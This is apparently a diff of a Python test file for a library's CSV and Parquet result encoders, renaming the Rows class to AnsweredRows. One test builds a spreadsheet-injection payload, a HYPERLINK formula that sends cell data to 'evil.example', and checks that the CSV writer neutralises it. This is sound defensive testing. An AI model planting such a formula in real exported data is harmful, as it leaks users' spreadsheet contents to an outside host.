@@ -14,25 +14,25 @@ from penstock.core.records.result_names import FORMATS
 from penstock.core.rows.payload import Kept
 from penstock.core.rows.rejections import Rejection
 from penstock.encodings import result_formats
-from penstock.encodings.base import Rows
+from penstock.encodings.base import AnsweredRows
 from penstock.encodings.columns import GROUP_BYTES, GROUP_ROWS, ParquetRows
 
 WHY = Rejection("bad_row", 'line 3: "x", no number\n', "expand")
 Row = tuple[int, str | None, Any, str | None]
 
 
-def runs() -> list[Rows]:
+def runs() -> list[AnsweredRows]:
     """Rows as they come: two members, texts, an error, and what was kept."""
     answers = [b'{"label":1,"score":0.5}', b'"a, \\"b\\" 100%"', b"null", b"[1,2]"]
     kept = Kept.of([b'{"site":"x"}'] * 2, [1_795_208_217_412, None])
     return [
-        Rows(0, answers, "m/1.csv", {2: WHY}),
-        Rows(4, answers[:2], "ü%d.csv", {}, kept),
-        Rows(6, [b"%d" % row for row in range(3_000)], None, {}),
+        AnsweredRows(0, answers, "m/1.csv", {2: WHY}),
+        AnsweredRows(4, answers[:2], "ü%d.csv", {}, kept),
+        AnsweredRows(6, [b"%d" % row for row in range(3_000)], None, {}),
     ]
 
 
-def written(name: str, found: Sequence[Rows]) -> bytes:
+def written(name: str, found: Sequence[AnsweredRows]) -> bytes:
     encoding, parts = result_formats.find(name)(), []
     for rows in found:
         encoding.add(rows)
@@ -107,7 +107,9 @@ def test_rows_come_back_as_they_were(name: str) -> None:
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
 def test_no_text_of_strangers_is_a_formula_of_a_spreadsheet(start: str) -> None:
     text = f'{start}HYPERLINK("http://evil.example?"&A1,"x")'
-    rows = Rows(0, [b"-1.5", b"null"], text, {1: Rejection("model_rejected", text, "predict")})
+    rows = AnsweredRows(
+        0, [b"-1.5", b"null"], text, {1: Rejection("model_rejected", text, "predict")}
+    )
     good, bad = csv.DictReader(io.StringIO(written("csv", [rows]).decode(), newline=""))
     assert good["member"] == bad["member"] == bad["error_message"] == f"'{text}"
     assert good["prediction"] == "-1.5"
@@ -122,8 +124,10 @@ def test_an_object_without_rows_can_be_read(name: str) -> None:
 def test_the_bytes_do_not_depend_on_how_the_rows_came(name: str) -> None:
     """A repeat after a crash has other batches and has to write the same object."""
     answers = [b'{"label":%d,"score":0.%d}' % (row % 2, row % 997) for row in range(150_000)]
-    whole = written(name, [Rows(0, answers, None, {})])
-    cut = [Rows(at, answers[at : at + 2_500], None, {}) for at in range(0, len(answers), 2_500)]
+    whole = written(name, [AnsweredRows(0, answers, None, {})])
+    cut = [
+        AnsweredRows(at, answers[at : at + 2_500], None, {}) for at in range(0, len(answers), 2_500)
+    ]
     assert written(name, cut) == whole
 
 
@@ -132,13 +136,13 @@ def test_long_rows_are_fewer_in_a_group_however_they_come() -> None:
     answers = [b'"%015000d"' % row for row in range(3_000)]
     encoding, parts, most = ParquetRows(), list[bytes](), 0
     for at in range(0, len(answers), 100):
-        encoding.add(Rows(at, answers[at : at + 100], None, {}))
+        encoding.add(AnsweredRows(at, answers[at : at + 100], None, {}))
         most = max(most, encoding.waiting_bytes)
         if encoding.is_due:
             parts.append(encoding.take())
     data = b"".join([*parts, encoding.close()])
     assert most < GROUP_BYTES + 100 * 16_000
-    assert written("parquet", [Rows(0, answers, None, {})]) == data
+    assert written("parquet", [AnsweredRows(0, answers, None, {})]) == data
     assert [row[2] for row in by_parquet(data)] == [f"{row:015000d}" for row in range(3_000)]
 
 
@@ -153,7 +157,7 @@ def test_a_line_has_what_is_not_the_same_for_the_whole_object() -> None:
 def test_parquet_has_row_groups_of_one_size_and_typed_columns() -> None:
     rows = 2 * GROUP_ROWS + 5
     answers = [b"%d" % row for row in range(rows)]
-    cut = [Rows(at, answers[at : at + 2_500], None, {}) for at in range(0, rows, 2_500)]
+    cut = [AnsweredRows(at, answers[at : at + 2_500], None, {}) for at in range(0, rows, 2_500)]
     file = pq.ParquetFile(io.BytesIO(written("parquet", cut)))
     groups = [file.metadata.row_group(n).num_rows for n in range(file.num_row_groups)]
     assert groups == [GROUP_ROWS, GROUP_ROWS, 5]
